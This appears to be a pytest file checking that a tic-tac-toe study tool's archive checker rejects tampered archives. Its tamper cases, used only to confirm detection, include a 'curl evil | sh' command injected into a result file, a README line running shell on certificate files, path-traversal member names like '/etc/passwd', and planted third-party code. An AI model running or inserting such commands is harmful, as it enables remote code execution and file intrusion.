"""``noughts study archive`` and ``check``: reproducible bytes, complete checks, and one line for each damaged or hostile file."""

import json
import lzma
import tarfile
from collections.abc import Callable, Iterator, Sequence
from pathlib import Path
from typing import Any

import pytest

from noughts.agents import parse_agent
from noughts.document.result import Row, StudyResult, Table
from noughts.library.archiving import KIND, NOT_CHECKED, check_archive, is_member
from noughts.machine.environment import current_environment
from noughts.questions.answers import Answers
from noughts.questions.played import Played
from noughts.questions.question import Question
from noughts.questions.walked import Walked
from noughts.rules import NoughtsError, parse_task
from noughts.store.archive_file import read_archive, write_archive
from noughts.studies import registry
from noughts.studies.study import Conclusion, Settings, Study
from tests.cli.running import Shown, Told, captured

PERFECT = Walked(task=parse_task("tic-tac-toe"), agent=parse_agent("perfect"), side="second")
GAMES = Played(
    task=parse_task("tic-tac-toe"), a=parse_agent("random"), b=parse_agent("minimax:depth=1"), games=6, moves_first="a"
)


class Small(Study):
    """Six games and a walk."""

    name = "small"
    title = "A small study"
    question = "Does perfect play lose?"

    def questions(self, settings: Settings) -> Sequence[Question[Any]]:
        return [PERFECT, GAMES]

    def conclude(self, settings: Settings, answers: Answers) -> Conclusion:
        proved = sum(game.result.proved for game in answers[PERFECT].games)
        wins = answers[GAMES].total.wins
        rows = (Row(labels=("games",), ours=f"{wins} of 6"), Row(labels=("proved",), ours=f"{proved} of 1"))
        return Conclusion((Table(title="All", label_columns=("what",), unit="games", rows=rows),), (), (f"{wins} won",))


@pytest.fixture(scope="module")
def archive(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    """An archive of a finished run of the small study; the store is beside it."""
    path = tmp_path_factory.mktemp("archive") / "it.tar.xz"
    with pytest.MonkeyPatch.context() as patch:
        patch.setitem(registry.STUDIES, "small", __name__)
        patch.setenv("NOUGHTS_STORE", str(path.with_name("store")))
        assert captured("study", "run", "small", "--workers", "0")[0] == 0
        assert captured("study", "archive", "small", "-o", str(path))[0] == 0
        yield path


def changed(path: Path, change: "Change") -> Path:
    """An archive with changed members and correct hashes."""
    facts, members = read_archive(path, KIND, is_member)
    content = dict(members)
    change(content)
    other = path.with_name("other.tar.xz")
    agents = json.loads(content["result.json"])["agents"]
    write_archive(other, KIND, {**facts, "agents": agents}, content)
    return other


def test_archives_are_valid_readable_and_reproducible(archive: Path, tmp_path: Path, shown: Shown, told: Told) -> None:
    again = tmp_path / "again.tar.xz"
    words = ("study", "archive", "small", "-o", again, "--store", archive.with_name("store"))
    told(*words)
    assert again.read_bytes() == archive.read_bytes()
    told(*words, code=2)  # not overwritten
    with tarfile.open(archive) as tar:
        names = tar.getnames()
    assert names[0] == "manifest.json"
    assert sum(name.startswith("certificates/") for name in names) == 1
    found = shown("study", "check", archive, "--workers", "0")
    assert (found["games"], found["walks"], found["certificates"], found["taken"]) == (6, 1, 1, 0)
    assert found["members"] == len(names) - 1


@pytest.mark.parametrize("name", ["../../escape", "/etc/passwd", "checker/verify.py"])
def test_an_archive_contains_only_study_outputs(name: str) -> None:
    assert not is_member(name)


Change = Callable[[dict[str, bytes]], Any]


def edit(member: str, old: bytes, new: bytes) -> Change:
    """Replace words in a member."""

    def change(members: dict[str, bytes]) -> None:
        assert old in members[member]
        members[member] = members[member].replace(old, new)

    return change


def edit_game(change_line: Callable[[dict[str, Any]], Any]) -> Change:
    """Change the record of a game."""

    def change(members: dict[str, bytes]) -> None:
        lines = [json.loads(line) for line in members["answers.jsonl"].splitlines()]
        change_line(next(line for line in lines if line["key"].startswith("playthrough")))
        members["answers.jsonl"] = "".join(json.dumps(line) + "\n" for line in lines).encode()

    return change


def add(member: str, content: bytes) -> Change:
    return lambda members: members.update({member: content})


def remove(start: str) -> Change:
    return lambda members: members.pop(next(name for name in members if name.startswith(start)))


def other_winner(line: dict[str, Any]) -> None:
    line["answer"]["ending"] = "draw" if line["answer"]["ending"] != "draw" else "first"


def illegal(line: dict[str, Any]) -> None:
    line["answer"]["moves"][1] = line["answer"]["moves"][0]


def damaged_proof(members: dict[str, bytes]) -> None:
    (name,) = (name for name in members if name.startswith("certificates/"))
    content = bytearray(lzma.decompress(members[name]))
    content[-1] ^= 1
    members[name] = lzma.compress(bytes(content))


def twice(members: dict[str, bytes]) -> None:
    members["answers.jsonl"] = members["answers.jsonl"].partition(b"\n")[0] + b"\n" + members["answers.jsonl"]


def no_answer(members: dict[str, bytes]) -> None:
    members["answers.jsonl"] = members["answers.jsonl"].partition(b"\n")[2]


def test_changes_are_detected_though_all_hashes_are_right(archive: Path, told: Told) -> None:
    for change, said in (
        (twice, "answers a question twice"),
        (edit_game(lambda line: line.update(more=1)), "a line that is no answer"),
        (add("README.txt", b"run: sh certificates/*\n"), "its README.txt is not what follows from its result.json"),
        (remove("README.txt"), "it has no README.txt"),
        (add(f"certificates/{'0' * 64}.proof.xz", b""), "no part of what the study found"),
        (edit("result.json", b"A small study", b"A grand study"), "its title in result.json are not those"),
        (edit("result.json", b"noughts study run", b"curl evil | sh #"), "its repeat in result.json are not those"),
        (edit("result.json", b'"noughts":"', b'"noughts":"9'), "is of another study than it names"),
        (add("configurations/evil.json", b"{}"), "configurations/evil.json is no part of what the study found"),
        (edit_game(other_winner), "is not what its moves give"),
        (edit_game(illegal), "replayed"),
        (edit("result.json", b"1 of 1", b"9 of 9"), "its tables in result.json are not those that follow"),
        (damaged_proof, "is refused:"),
        (remove("certificates/"), "it has no certificates/"),
        (edit("page.html", b"of 6", b"of 5"), "its page.html is not what follows from its result.json"),
        (no_answer, "answers are missing"),
        (edit("result.json", b'"agents":[]', b'"agents":["python:x.py:X"]'), "third-party code"),
    ):
        assert said in told("study", "check", changed(archive, change), "--workers", "0", "--json", code=2)


def of_another_commit(members: dict[str, bytes]) -> None:
    """What an archive contains if another commit, which words pages differently, has packed it."""
    result = json.loads(members["result.json"])
    result["environment"]["commit"] = "0123abc+changes"
    members["result.json"] = StudyResult(**result).to_json().encode()
    members["page.html"] = b"<p>The study in other words.</p>"


def test_a_page_that_another_version_wrote_is_not_compared(archive: Path, told: Told, shown: Shown) -> None:
    other = changed(archive, of_another_commit)
    here = current_environment().versions["noughts"]
    skipped = f"; page.html, which another version wrote: noughts {here} of commit 0123abc"
    assert shown("study", "check", other, "--workers", "0")["not_checked"] == NOT_CHECKED + skipped
    assert shown("study", "check", archive, "--workers", "0")["not_checked"] == NOT_CHECKED

    def with_other_tables(members: dict[str, bytes]) -> None:
        of_another_commit(members)
        edit("result.json", b"1 of 1", b"9 of 9")(members)

    refused = told("study", "check", changed(archive, with_other_tables), "--workers", "0", "--json", code=2)
    assert "its tables in result.json are not those that follow" in refused


def test_foreign_and_unknown_studies_are_not_loaded(archive: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delitem(registry.STUDIES, "small")
    with pytest.raises(NoughtsError, match="third-party code, which is not loaded"):
        check_archive(archive, 0)


def test_packing_outside_code_warns_of_rejection(archive: Path, told: Told, monkeypatch: pytest.MonkeyPatch) -> None:
    pack = ("study", "archive", "small", "-o", archive, "--force", "--store", archive.with_name("store"))
    assert f"`noughts study check {archive}` checks it" in told(*pack)
    monkeypatch.setattr("noughts.library.archiving.STUDIES", {})
    assert "`noughts study check` rejects it: it needs third-party code" in told(*pack)
